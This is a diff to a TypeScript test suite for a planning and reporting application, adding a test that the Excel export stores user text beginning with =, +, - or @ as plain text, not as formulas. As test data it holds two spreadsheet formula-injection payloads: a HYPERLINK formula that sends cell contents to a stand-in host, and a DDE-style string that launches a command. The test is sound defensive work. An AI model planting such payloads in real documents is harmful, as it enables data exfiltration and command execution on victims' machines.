@@ -15,7 +15,7 @@ let responsable: Sesion & { id: string };
 let actividades = 0;
 /** Activities are created before the plan is approved (weights add to 100); each test takes its own. */
 const libres: string[] = [];
-const ACTIVIDADES = 13;
+const ACTIVIDADES = 14;
 
 const PDF = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n');
 const pdfNumero = (n: number) => Buffer.from(`%PDF-1.4\n% evidencia ${n}\n%%EOF\n`);
@@ -320,5 +320,27 @@ describe('enlaces', () => {
     });
     expect(otraVez.statusCode).toBe(200);
     expect(otraVez.json().id).toBe(ok.json().id);
+  });
+});
+
+// Not a change to the Excel module (another team owns it): a check that its export is not a CSV's risk.
+describe('exportación del plan a Excel', () => {
+  it('el texto del usuario que empieza por = + - @ va como celda de texto, nunca como fórmula', async () => {
+    const a = await reporteNuevo();
+    const descripcion = '=HYPERLINK("http://x.example/?"&A1,"clic") informe';
+    const dificultades = "@SUM(1+1)*cmd|' /C calc'!A0";
+    const put = await t.pedir(responsable, 'PUT', seg(a), { valor: 1, descripcion, dificultades });
+    expect(put.statusCode).toBe(200);
+    const r = await t.pedir(control, 'GET', `${base()}/plan/2026/export.xlsx?periodo=1`);
+    expect(r.statusCode).toBe(200);
+    const ExcelJS = (await import('exceljs')).default;
+    const libro = new ExcelJS.Workbook();
+    await libro.xlsx.load(r.rawPayload as unknown as ArrayBuffer);
+    const celdas: { type: number; value: unknown; formula?: string }[] = [];
+    for (const hoja of libro.worksheets) hoja.eachRow((fila) => fila.eachCell((c) => celdas.push(c)));
+    const peligrosas = celdas.filter((c) => typeof c.value === 'string' && /^[=+\-@]/.test(c.value));
+    expect(peligrosas.map((c) => c.value)).toEqual(expect.arrayContaining([descripcion, dificultades]));
+    for (const c of peligrosas) expect(c.type).toBe(ExcelJS.ValueType.String);
+    expect(celdas.filter((c) => c.type === ExcelJS.ValueType.Formula || c.formula)).toEqual([]);
   });
 });
